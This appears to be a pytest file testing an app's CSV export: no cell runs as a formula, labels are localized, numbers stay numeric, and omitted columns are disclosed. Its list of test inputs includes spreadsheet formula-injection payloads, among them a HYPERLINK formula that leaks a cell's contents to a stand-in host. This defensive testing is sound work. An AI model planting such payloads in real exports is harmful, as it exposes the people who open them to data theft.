"""A CSV export opens safely and readably in a spreadsheet (issue 13, finding 11): no cell runs as a
formula, states and choices read as their labels in the reader's language, numbers stay numbers,
and the file says which columns it leaves out.
"""

from __future__ import annotations

import copy
import csv
import io
from typing import Any

import pytest

from conftest import api_token, login
from itpm.web.record_export import cell

FORMULAS = [
    '=HYPERLINK("http://evil.invalid/?leak="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # a full-width equals sign, as a Chinese input method types it
    "  =1+1",
]


def _rows(response: Any) -> list[list[str]]:
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"), newline="")))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("-5", "-5"),
        ("-1,234.5", "-1,234.5"),
        ("+86 10 1234 5678", "'+86 10 1234 5678"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        (" =1+1", "' =1+1"),
        ("-1+1", "'-1+1"),
        ("plain", "plain"),
    ],
)
def test_a_genuine_number_stays_a_number_and_other_text_starting_like_a_formula_does_not(
    value: str, expected: str
) -> None:
    assert cell(value) == expected


def test_no_exported_cell_runs_as_a_formula(admin_client: Any, admin_api: Any) -> None:
    for title in FORMULAS:
        created = admin_api.post(
            "/api/v1/records/incident/",
            json={
                "data": {"title": title, "priority": "P3", "category": "network", "affected_service": "-5"}
            },
        )
        assert created.status_code == 201, created.get_json()
    listed = admin_api.get("/api/v1/records/incident/?q=(page_size:100)").get_json()["result"]
    stored = {r["data"]["title"] for r in listed}  # as saved (the service trims a title's spaces)
    assert len(stored) >= 5
    for response in (
        admin_client.get("/records/incident/export/"),
        admin_api.get("/api/v1/records/incident/export.csv"),
    ):
        rows = _rows(response)
        title_at = rows[0].index("Title")
        titles = {row[title_at] for row in rows[1:] if len(row) > title_at}
        assert titles == {"'" + title for title in stored}
        assert {row[rows[0].index("Affected service")] for row in rows[1:] if len(row) > 1} == {"-5"}
        lines = response.get_data(as_text=True).lstrip("\ufeff").split("\r\n")  # the rows csv writes
        assert all(line.startswith('"') for line in lines if line)  # every cell quoted


def test_states_and_choices_read_as_labels_in_the_readers_language(admin_client: Any, admin_api: Any) -> None:
    admin_api.post(
        "/api/v1/records/incident/",
        json={"data": {"title": "VPN down", "priority": "P1", "category": "network"}},
    )
    admin_api.post(
        "/api/v1/records/project/",
        json={
            "data": {
                "name": "Core banking",
                "project_type": "implementation",
                "phase": "execution",
                "start_date": "2026-01-01",
                "due_date": "2026-12-31",
                "contract_value": 1234567.5,
            }
        },
    )
    english = _rows(admin_client.get("/records/incident/export/"))
    assert english[0][:2] == ["Number", "State"]
    assert english[1][1] == "New" and "P1 Critical" in english[1] and "Network" in english[1]
    admin_client.get("/lang/zh")
    chinese = _rows(admin_client.get("/records/incident/export/"))
    assert chinese[0][:2] == ["编号", "状态"]
    assert chinese[1][1] == "新建" and "P1 紧急" in chinese[1] and "网络" in chinese[1]
    project = _rows(admin_client.get("/records/project/export/"))
    assert project[1][project[0].index("合同金额(元)")] == "1234567.5"  # a number, not "¥1,234,567.50"


def test_the_file_says_which_columns_it_leaves_out(app: Any, admin_client: Any, runtime: Any) -> None:
    with runtime.session() as session:
        registry = runtime.registry(session)
        incident = copy.deepcopy(registry.published_body(registry.get("record_type", "incident")))
        incident["schema"]["properties"]["evidence"] = {
            "type": "array",
            "items": {"type": "integer", "x-ref": "file"},
            "title": "Evidence",
            "x-title-zh": "证据",
        }
        client = copy.deepcopy(registry.published_body(registry.get("role", "client")))
        client["records"]["project"]["export"] = "client"
        registry.save_draft(incident, "admin")
        registry.save_draft(client, "admin")
        registry.publish([("record_type", "incident"), ("role", "client")], "admin")
    flask_app = app.dispatcher.app
    with flask_app.app_context():
        sm = flask_app.appbuilder.sm
        sm.add_user(
            "e_client", "E", "Client", "e_client@itpm.invalid", [sm.find_role("client")], "export-password-1"
        )
    browser = app.test_client()
    login(browser, "e_client", "export-password-1")
    browser.get("/lang/en")
    token = api_token(app.test_client(), "e_client", "export-password-1")

    incidents = _rows(admin_client.get("/records/incident/export/"))
    assert "Evidence" not in incidents[0]
    assert incidents[-2] == [] and incidents[-1][0].startswith("Not in this file: Evidence")
    admin_projects = _rows(admin_client.get("/records/project/export/"))
    assert admin_projects[-1] == admin_projects[0]  # nothing left out, nothing said: the header alone
    for response in (
        browser.get("/records/project/export/"),
        browser.get("/api/v1/records/project/export.csv", headers={"Authorization": f"Bearer {token}"}),
    ):
        rows = _rows(response)
        assert rows[-2:] == [[], ["Fields your roles do not let you read are not in this file."]]
